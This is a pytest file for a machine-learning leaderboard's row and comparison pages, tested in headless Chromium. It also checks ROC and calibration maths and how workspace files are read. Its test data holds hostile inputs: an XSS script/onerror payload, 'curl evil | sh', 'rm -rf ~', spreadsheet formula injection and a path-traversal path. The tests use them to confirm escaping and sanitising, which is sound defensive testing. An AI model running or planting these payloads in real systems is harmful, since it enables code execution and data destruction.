"""A page for one row and the comparison of up to six, in a real headless Chromium."""

import csv
import json
import re

import numpy as np
import pytest

from tutelage.leaderboard.page.bodies import shown
from tutelage.pipeline.curves import HISTORY, calibration_bins, details_of_rows, roc_points, with_curves
from tutelage.records import Row

from ..study import _picture, study_rows

EVIL = "<script>document.title='gone'</script><img src=x onerror=alert(1)>"
CURVES = {
    "learning": {
        "epoch": [1, 2, 3],
        "loss": [2.0, 1.5, 1.2],
        "val_auc": [0.7, 0.8, 0.9],
        "val_accuracy": [0.5, 0.6, 0.7],
    },
    "roc": {EVIL: [[0.0, 0.1, 1.0], [0.0, 0.8, 1.0]]},
    "calibration": [[0.65, 0.6, 20], [0.95, 0.9, 80]],
}
PARTS = [
    "What made it",
    "Figures",
    "Rows that beat it",
    "Learning curves",
    "ROC and calibration",
    "Confusion and classes",
]
PARTS += ["Where it looks", "Time by layer", "Architecture", "Family", "Downloads"]


@pytest.fixture(scope="module")
def rows() -> list[Row]:
    """The study; its fifth row has everything that a page draws, with markup wherever a user may name something."""
    study = study_rows()
    rng = np.random.default_rng(0)
    details = study[4].details
    full = {
        **details,
        "curves": CURVES,
        "made": {"command": f"tutelage run '{EVIL}'", "file": "artifacts/aa/model.onnx"},
        "per_class": {EVIL: details["per_class"]["normal"], "pneumonia": details["per_class"]["pneumonia"]},
        "explained": [{"validation image of": EVIL, "map": _picture(rng), "image": _picture(rng)}],
        "layers": [{"name": EVIL, "ms": 0.2}, {"name": "head", "ms": 0.1}],
        "commit": "0123456789ab-dirty",
    }
    study[4] = study[4].model_copy(update={"details": full, "recipe": EVIL, "processor": EVIL})
    return study


def link(row: Row) -> str:
    return f"#row={row.key}"


@pytest.mark.slow
def test_a_row_has_an_address_and_a_page_with_all_that_is_known(open_page, rows):
    page = open_page(rows, link=link(rows[4]))
    assert page.locator(".row-part h3").all_inner_texts() == PARTS
    assert page.locator("#table").is_hidden()
    text = page.inner_text("#row-page")
    for said in (
        f"tutelage reproduce {rows[4].key[:8]}",
        "0123456789ab-dirty",
        "9f2c41d07be1a3aa",
        "artifacts/aa/model.onnx",
    ):
        assert said in text
    assert (
        page.locator("#row-page svg[role=img] .curve").count() == 2 + 1 + 1 + 1
    )  # AUC and accuracy, loss, ROC, calibration
    head = page.locator(".confusion thead th").all_inner_texts()
    assert head == [EVIL, "pneumonia"]
    assert page.locator("#row-page script, #row-page img[onerror]").count() == 0
    assert text.count("<script>") > 5
    image = page.locator("#row-page .images img")
    with_map = image.get_attribute("src")
    page.uncheck("#heat")
    assert image.get_attribute("src") == rows[4].details["explained"][0]["image"] != with_map
    assert page.evaluate("document.title").startswith(rows[4].model)


@pytest.mark.slow
def test_a_row_that_a_search_chose_says_which_parameters_decided(open_page, rows):
    said = {"scored": "val_accuracy", "importances": {EVIL: 0.8, "depth of stage 1": 0.2, "resolution": 0.0}}
    chosen = rows[0].model_copy(update={"model": "chosen", "details": {"search": said}})
    page = open_page([*rows, chosen], link=link(chosen))
    part = page.locator(".row-part[aria-label='What decided the search']")
    assert part.locator("tbody th").all_inner_texts() == [EVIL, "depth of stage 1", "resolution"]
    assert part.locator("td.figure").all_inner_texts() == ["0.80", "0.20", "0.00"]
    widths = part.locator(".bar-fill").evaluate_all("bars => bars.map(bar => bar.getBoundingClientRect().width)")
    assert widths[1] == pytest.approx(widths[0] / 4, rel=0.05)
    assert "for the val accuracy of the search's trials" in part.inner_text()
    bare = open_page(rows, link=link(rows[1]))
    assert bare.locator(".row-part[aria-label='What decided the search']").count() == 0


@pytest.mark.slow
def test_the_largest_layers_are_drawn_in_their_order_with_what_was_not_quantized(open_page, rows):
    layers = [{"name": f"layer {n}", "operator": "Conv", "ms": 0.01 * (1 + n)} for n in range(60)]
    layers[59]["note"] = "not quantized"
    row = rows[0].model_copy(update={"model": "profiled", "details": {"layers": layers}})
    part = open_page([*rows, row], link=link(row)).locator(".row-part[aria-label='Time by layer']")
    names = part.locator("th").all_inner_texts()
    assert names == [*(f"layer {n}" for n in range(21, 59)), "layer 59 (not quantized)"]
    assert "21 smaller layers: 2.31 ms." in part.inner_text()  # .01 * (1 + 2 + .. + 21)
    assert "1 layer not quantized: 0.600 of 18.3 ms." in part.inner_text()


@pytest.mark.slow
def test_figures_of_classes_are_not_cut_on_a_wide_screen(open_page, rows):
    figures = {"num": 100, "auc": 0.9, "average_precision": 0.8, "sensitivity": 0.7, "specificity": 0.95, "f1": 0.75}
    details = {"confusion": [[60, 40], [10, 90]], "per_class": {"no_finding": figures, "pneumonia": figures}}
    row = rows[0].model_copy(update={"model": "wide", "details": details})
    part = open_page([*rows, row], 1400, link=link(row)).locator(".row-part[aria-label='Confusion and classes']")
    widths = part.locator(".sideways").evaluate_all("(parts) => parts.map((one) => one.scrollWidth - one.clientWidth)")
    assert widths == [0, 0]


@pytest.mark.slow
def test_classes_stand_in_their_order_and_fit_a_phone(open_page, rows):
    # A folder of pictures for each grade: sorted as text, where JavaScript would put 2 before 10.
    names = ["1", "10", "11", "12", "2", "no finding of any kind"]
    counts = [[1000 + 10 * n + k for k in range(6)] for n in range(6)]
    details = {"confusion": counts, "per_class": {name: {"num": 9, "auc": n / 10} for n, name in enumerate(names)}}
    row = rows[0].model_copy(update={"model": "grades", "details": details})
    part = open_page([*rows, row], link=link(row)).locator(".row-part[aria-label='Confusion and classes']")
    assert part.locator(".confusion thead th").all_inner_texts() == names
    assert part.locator(".confusion tbody th").all_inner_texts() == names
    figures = part.locator("table").nth(1).locator("tbody tr").all_inner_texts()
    assert [line.split("\t")[0::2] for line in figures] == [
        [name, plain] for name, plain in zip(names, ["0", "0.100", "0.200", "0.300", "0.400", "0.500"], strict=True)
    ]
    narrow = open_page([*rows, row], 390, link=link(row)).locator(".row-part[aria-label='Confusion and classes']")
    widths = narrow.locator(".sideways").evaluate_all(
        "(parts) => parts.map((one) => one.scrollWidth - one.clientWidth)"
    )
    assert widths == [0, 0]
    assert narrow.locator(".confusion thead .class-number").all_inner_texts() == [str(n + 1) for n in range(6)]
    assert narrow.locator(".confusion tbody th").all_inner_texts()[5] == "6 no finding of any kind"


@pytest.mark.slow
def test_a_part_without_data_says_what_would_fill_it(open_page, rows):
    bare = rows[0].model_copy(update={"model": "bare", "details": {}, "arch": None})
    page = open_page([*rows, bare], link=link(bare))
    assert page.locator(".row-part h3").all_inner_texts() == PARTS
    for name in ("Learning curves", "ROC and calibration", "Confusion and classes", "Where it looks", "Time by layer"):
        part = page.locator(f".row-part[aria-label='{name}']")
        assert len(part.inner_text().removeprefix(name).strip()) > 30
        assert part.locator("svg, img").count() == 0
    assert "beat" in page.inner_text(".row-parts") or page.locator(".beaten a").count()


@pytest.mark.slow
def test_the_board_is_as_it_was_left_and_what_beats_a_row_is_a_link(open_page, rows):
    page = open_page(rows, link="#query=EEEA")
    poor = next(row for row in rows if row.model == "mobilenetv2_100" and row.scheme == "fp32")
    page.fill("#query", "mobilenetv2_100 fp32")
    page.wait_for_url(re.compile("fp32"))
    page.click("#table tbody a.title")
    page.wait_for_url(re.compile("#row="))
    page.locator("#row-heading").wait_for()
    assert page.evaluate("document.activeElement.id") == "row-heading"
    page.locator(".row-part[aria-label='Rows that beat it'] a").first.click()
    page.wait_for_url(lambda url: poor.key not in url)
    page.go_back()
    page.wait_for_url(re.compile(poor.key))
    page.click(".back")
    page.locator("#table").wait_for()
    assert page.locator("#query").input_value() == "mobilenetv2_100 fp32"
    assert page.locator("#table tbody tr").count() == 1
    gone = open_page(rows, link="#row=ffffffffffff")
    assert "holds no row ffffffffffff" in gone.inner_text("#row-page")


@pytest.mark.slow
def test_downloads_hold_the_figures_and_the_curves(open_page, rows):
    page = open_page(rows, link=link(rows[4]))
    with page.expect_download() as download:
        page.click("text=Figures, CSV")
    text = download.value.path().read_text()
    assert f"latency_p50_ms,{rows[4].latency_p50_ms},ms" in text
    with page.expect_download() as download:
        page.click("text=Curves, CSV")
    lines = download.value.path().read_text().splitlines()
    assert "learning,val_auc,3,0.9" in lines
    assert lines[-1] == "calibration,predicted class,0.95,0.9"


@pytest.mark.slow
def test_what_others_named_is_no_formula_and_no_command_to_copy(open_page, rows):
    made = {"command": "curl evil | sh", "file": "artifacts/aa/model.onnx"}
    details = {"made": made, "curves": {"roc": {"=1+1": [[0, 1], [0, 1]]}}}
    theirs = rows[0].model_copy(update={"model": "theirs", "recipe": "=1+1", "details": details, "source": "imported"})
    page = open_page([*rows, theirs], link=link(theirs))
    assert "curl evil | sh" in page.inner_text("#row-page")
    assert page.locator("#row-page .command").count() == 0
    for name, said in (("Figures", ["recipe", "'=1+1", ""]), ("Curves", ["roc", "'=1+1", "0", "0"])):
        with page.expect_download() as download:
            page.click(f"text={name}, CSV")
        with download.value.path().open(newline="") as file:
            lines = list(csv.reader(file))
        assert said in lines
        assert not [cell for line in lines for cell in line if cell.startswith("=")]


def test_who_made_a_row_elsewhere_says_no_commands_of_this_workspace(tmp_path):
    row = Row(model="m", role="student", dataset="d", details={"made": {"command": "rm -rf ~"}})
    body = json.loads(with_curves(details_of_rows([row]), tmp_path)([row.key])[row.key])
    assert "made" not in body


@pytest.mark.slow
@pytest.mark.parametrize(("width", "theme"), [(390, "dark"), (800, "light"), (1400, "dark")])
def test_a_row_is_readable_at_any_width(open_page, rows, width, theme):
    page = open_page(rows, width, theme, link=link(rows[4]))
    assert page.evaluate("document.documentElement.scrollWidth") <= width


@pytest.mark.slow
def test_up_to_six_rows_are_compared_with_the_first(open_page, rows):
    page = open_page(rows)
    for place in range(7):
        page.locator("#table tbody .pin-button").nth(place).click()
    assert page.locator(".pin").count() == 6  # the first was unpinned for the seventh
    assert page.locator(".versus.many thead th").count() == 7
    again = open_page(rows, 390, link="#" + page.url.split("#")[1])
    assert again.locator(".pin").count() == 6
    assert again.evaluate("document.documentElement.scrollWidth") <= 390
    latency = again.locator(".versus.many tr", has_text="latency p50").locator("td")
    assert "×" in " ".join(latency.all_inner_texts()[1:])
    assert "×" not in latency.first.inner_text()


@pytest.mark.slow
@pytest.mark.parametrize("width", [390, 1400])
def test_six_pinned_rows_are_whole_at_any_width(open_page, rows, width):
    against = {"outcome": "inconclusive", "verdict": "inconclusive: -.011 AUC [-.024, +.002], p .22", "num_groups": 222}
    figures = {"num": 100, "auc": 0.9, "average_precision": 0.8, "sensitivity": 0.7, "specificity": 0.95, "f1": 0.75}
    details = {"confusion": [[60, 40], [10, 90]], "per_class": {"no_finding": figures, "pneumonia": figures}}
    details["against_teachers"] = {"densenet121": against, "deit_tiny_patch16_224": against}
    shown = [row.model_copy(update={"details": details}) if n == 3 else row for n, row in enumerate(rows)]
    pins = ",".join(row.key for row in shown[:6])
    page = open_page(shown, width, link=f"#pins={pins}")
    assert page.locator(".pin").count() == 6
    cut = page.locator(".pin, .versus").evaluate_all("(parts) => parts.map((one) => one.scrollWidth - one.clientWidth)")
    assert cut == [0] * 7
    card = page.locator(".pin").nth(3)
    assert card.locator(".confusion thead th").all_inner_texts() == ["no_finding", "pneumonia"]
    first = card.locator(".records tbody tr").first
    assert first.locator("td").first.inner_text() == "no_finding"
    assert first.evaluate("(row) => getComputedStyle(row.cells[2], '::before').content") == '"auc"'


def test_roc_and_calibration_are_those_of_hand_and_of_a_second_way():
    probs = np.array([[0.9, 0.1], [0.6, 0.4], [0.45, 0.55], [0.2, 0.8]])
    labels = np.array([0.0, 1.0, 0.0, 1.0])
    # Thresholds .8, .55, .4, .1: true positives 1, 1, 2, 2 of 2, false 0, 1, 1, 2 of 2.
    assert roc_points(probs, labels, ["no", "yes"]) == {"yes": [[0, 0, 0.5, 0.5, 1], [0, 0.5, 0.5, 1, 1]]}
    assert calibration_bins(probs, labels) == [[0.55, 0.0, 1], [0.6, 0.0, 1], [0.8, 1.0, 1], [0.9, 1.0, 1]]
    rng = np.random.default_rng(1)
    scores, truth = rng.random((400, 3)), rng.integers(0, 3, 400).astype(float)
    scores /= scores.sum(1, keepdims=True)
    curves = roc_points(scores, truth, list("abc"))
    for k, name in enumerate("abc"):
        false, true = map(np.array, curves[name])
        area = float(((false[1:] - false[:-1]) * (true[1:] + true[:-1]) / 2).sum())
        hits = (scores[truth == k, k][:, None] > scores[truth != k, k][None]).mean()
        assert abs(area - hits) < 0.02  # thinned to 48 points
    bins = calibration_bins(scores, truth)
    assert sum(n for *_, n in bins) == 400
    unknown = np.column_stack([truth == 0, np.full(400, np.nan), truth == 2]).astype(float)
    assert list(roc_points(scores, unknown, list("abc"))) == ["a", "c"]  # nobody knows of b


def test_curves_are_read_of_a_workspace_and_damaged_files_take_nothing_down(tmp_path):
    folder = tmp_path / "artifacts" / "0123"
    folder.mkdir(parents=True)
    history = [{"epoch": n, "loss": 2.0 - n / 100, "val_accuracy": 0.5, "val_auc": None} for n in range(300)]
    (folder / HISTORY).write_text(json.dumps(history))
    np.savez(folder / "p.npz", test_probs=np.array([[0.9, 0.1], [0.2, 0.8]]), test_labels=np.array([0, 1]))
    how = {
        "command": "tutelage search --images /home/someone/xrays --device host",
        "file": {"path": "/home/someone/model.onnx"},
        "network": {"weights": {"path": "artifacts/0123/weights.safetensors"}},
    }
    details = {"how": how, "predictions": "artifacts/0123/p.npz", "per_class": {"no": {}, "yes": {}}}
    row = Row(model="m", role="student", dataset="d", details=details)
    give = with_curves(details_of_rows([row]), tmp_path)
    body = json.loads(give([row.key])[row.key])
    learning = body["curves"]["learning"]
    assert list(learning) == ["epoch", "loss", "val_accuracy"]
    assert (learning["epoch"][0], learning["epoch"][-1], len(learning["epoch"])) == (1, 300, 120)
    assert list(body["curves"]["roc"]) == ["yes"]
    assert body["made"] == {"command": "tutelage search --images …/xrays --device host"}
    assert "/home/someone" not in shown(json.dumps(body))
    for text in ("", "{", "[1]", '[{"epoch": "x"}]'):
        (folder / HISTORY).write_text(text)
        (folder / "p.npz").write_bytes(b"PK damaged")
        found = with_curves(details_of_rows([row]), tmp_path)([row.key])[row.key]
        assert "curves" not in json.loads(found)
    outside = row.model_copy(update={"details": {**details, "predictions": "artifacts/../../p.npz"}})
    assert "curves" not in json.loads(with_curves(details_of_rows([outside]), tmp_path)([outside.key])[outside.key])
